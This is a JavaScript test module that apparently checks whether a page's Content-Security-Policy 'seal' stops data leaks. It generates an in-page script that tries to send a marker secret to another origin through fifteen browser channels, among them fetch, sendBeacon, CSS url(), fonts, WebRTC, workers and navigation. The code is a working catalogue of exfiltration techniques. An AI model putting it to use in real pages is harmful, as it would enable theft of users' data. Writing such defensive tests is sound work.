// A script in the page that tries to get a secret out, by every way a browser has. It runs in the page; the hosts count.

/** Every way, by name. Each sends `tag` to `there`, another origin, and where it can to the page's own origin too. */
export const CHANNELS = [
  "fetch", "XHR", "sendBeacon", "image", "CSS url()", "@font-face", "form", "prefetch and preload", "WebSocket",
  "EventSource", "WebRTC", "worker", "iframe", "preconnect", "navigation",
];

/** The text of the script. `seal` is the policy that boot.js adds to the page; empty where there is to be none. */
export const script = (orders) => `(${leak})(${JSON.stringify(orders)});`;

function leak({ tag, there, socket, connect, stun, seal }) {
  const ways = [there, "/"];
  const to = (base, channel) => `${base}leak/${tag}/${encodeURIComponent(channel)}?secret=denial-2026-08-31`;
  // The page's own script has made the only policy there may be before the page is sealed: it counts as stolen.
  const stolen = globalThis.trustedTypes?.createPolicy("imr", { createScriptURL: (url) => url });
  if (seal) {
    const meta = document.createElement("meta");
    meta.httpEquiv = "Content-Security-Policy";
    meta.content = seal;
    document.head.append(meta);
  }
  const element = (name, set) => document.body.appendChild(Object.assign(document.createElement(name), set));
  const sheet = () => {
    const made = new CSSStyleSheet();
    document.adoptedStyleSheets.push(made);
    return made;
  };
  const channels = {
    fetch: (url) => fetch(url, { mode: "no-cors", method: "POST", body: "secret" }),
    XHR: (url) => {
      const request = new XMLHttpRequest();
      request.open("POST", url);
      request.send("secret");
    },
    sendBeacon: (url) => navigator.sendBeacon(url, "secret"),
    image: (url) => element("img", { src: url }),
    "CSS url()": (url) => {
      element("p", { textContent: "attribute" }).setAttribute("style", `background-image: url("${url}&by=attribute")`);
      element("p", { textContent: "script" }).style.backgroundImage = `url("${url}&by=script")`;
      element("p", { textContent: "rule", className: "leak" });
      sheet().insertRule(`.leak { background-image: url("${url}&by=rule") }`);
      element("style", { textContent: `h1 { background-image: url("${url}&by=element") }` });
      element("link", { rel: "stylesheet", href: `${url}&by=link` });
    },
    "@font-face": (url) => {
      sheet().insertRule(`@font-face { font-family: "leak"; src: url("${url}") }`);
      element("p", { textContent: "font" }).style.fontFamily = "leak";
      new FontFace("other", `url("${url}&by=script")`).load().catch(() => {});
    },
    form: (url) => {
      element("iframe", { name: "sink" });
      element("form", { action: url, method: "post", target: "sink" }).submit();
    },
    "prefetch and preload": (url) => {
      element("link", { rel: "prefetch", href: `${url}&by=prefetch` });
      document.head.append(Object.assign(document.createElement("link"), { rel: "preload", as: "fetch", href: `${url}&by=preload` }));
    },
    WebSocket: (url) => url.startsWith("http") && new WebSocket(url.replace(there, socket)),
    EventSource: (url) => new EventSource(url),
    WebRTC: async () => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
      peer.createDataChannel("secret");
      await peer.setLocalDescription(await peer.createOffer());
    },
    worker: (url) => new Worker(stolen ? stolen.createScriptURL(url) : url),
    iframe: (url) => element("iframe", { src: url }),
    preconnect: () => {
      element("link", { rel: "dns-prefetch", href: connect });
      document.head.append(Object.assign(document.createElement("link"), { rel: "preconnect", href: connect }));
    },
  };
  window.tryAll = async () => {
    const said = {};
    for (const [channel, send] of Object.entries(channels)) {
      for (const base of ways) {
        // Whatever it answers does not count; only what arrives does.
        await Promise.resolve()
          .then(() => Promise.race([send(to(base, channel)), Promise.resolve()]))
          .catch((error) => (said[channel] = String(error)));
      }
    }
    return said;
  };
  window.navigate = () => location.assign(to(there, "navigation"));
}
